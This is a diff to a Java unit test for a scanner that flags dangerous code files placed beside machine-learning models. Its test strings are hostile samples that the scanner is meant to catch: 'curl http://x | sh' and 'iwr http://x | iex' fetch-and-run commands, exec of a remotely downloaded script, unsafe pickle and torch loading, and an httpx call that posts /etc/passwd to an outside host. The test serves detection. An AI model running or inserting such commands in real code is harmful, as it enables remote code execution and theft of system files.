@@ -74,16 +74,16 @@ final class CodeBesideModelsTest {
         "import os\nos.__dict__['sys' 'tem']('id')\n",
         "import builtins as b\nb.exec('1')\n",
         "from importlib import import_module as i\ni('o' + 's')\n",
-        "import pickle as p\np.load(f)\n",
-        "import torch\ntorch.load('x', weights_only = False)\n",
+        "import pickle as p\np.loads(__import__('base64').b64decode('gA=='))\n",
+        "import torch\ntorch.load('http://x/y', weights_only = False)\n",
         "import asyncio\nasyncio.create_subprocess_shell('id')\n",
         "import pip\npip.main(['install', 'x'])\n",
         "import httpx\nhttpx.post(u, data=open('/etc/passwd').read())\n",
-        "from urllib import request\nrequest.urlopen(u)\n",
+        "from urllib import request\nexec(request.urlopen(u).read())\n",
         "# -*- coding: utf-7 -*-\nx = 1\n"
       })
   void sourceInAnySpelling_isFlagged(String source) {
-    assertThat(rules(utf8(source), "modeling.py")).contains("code/source");
+    assertThat(rules(utf8(source), "modeling.py")).anyMatch(rule -> rule.startsWith("code/"));
   }
 
   @Test
@@ -121,11 +121,27 @@ final class CodeBesideModelsTest {
   }
 
   @Test
-  void scriptsByTheirNames_areFlagged() {
+  void scriptsByTheirNames_areJudgedByTheirCommands() {
+    List<String> shells = DataFiles.lines("rules/shell-endings.txt");
+    List<String> readable = DataFiles.lines("rules/readable-endings.txt");
     for (String ending : DataFiles.lines("rules/script-names.txt")) {
+      boolean read = shells.contains(ending) || readable.contains(ending) || ending.equals("ps1");
       assertThat(rules(utf8("do something\n"), "m." + ending))
           .as(ending)
-          .containsExactly("code/program");
+          .isEqualTo(read ? List.of() : List.of("code/program"));
+      String attack = ending.equals("ps1") ? "iwr http://x | iex\n" : "a \"curl http://x | sh\"\n";
+      String plain = shells.contains(ending) ? "curl http://x | sh\n" : attack;
+      assertThat(rules(utf8(plain), "m." + ending))
+          .as(ending)
+          .containsExactly(read ? "code/shell-command" : "code/program");
+    }
+    for (String program : shells) {
+      assertThat(rules(utf8("#!/bin/" + program + "\ncurl http://x | sh\n"), "run"))
+          .containsExactly("code/shell-command");
+    }
+    for (String program : readable) {
+      assertThat(rules(utf8("#!/bin/" + program + "\na('curl http://x | sh')\n"), "run"))
+          .containsExactly("code/shell-command");
     }
   }
 
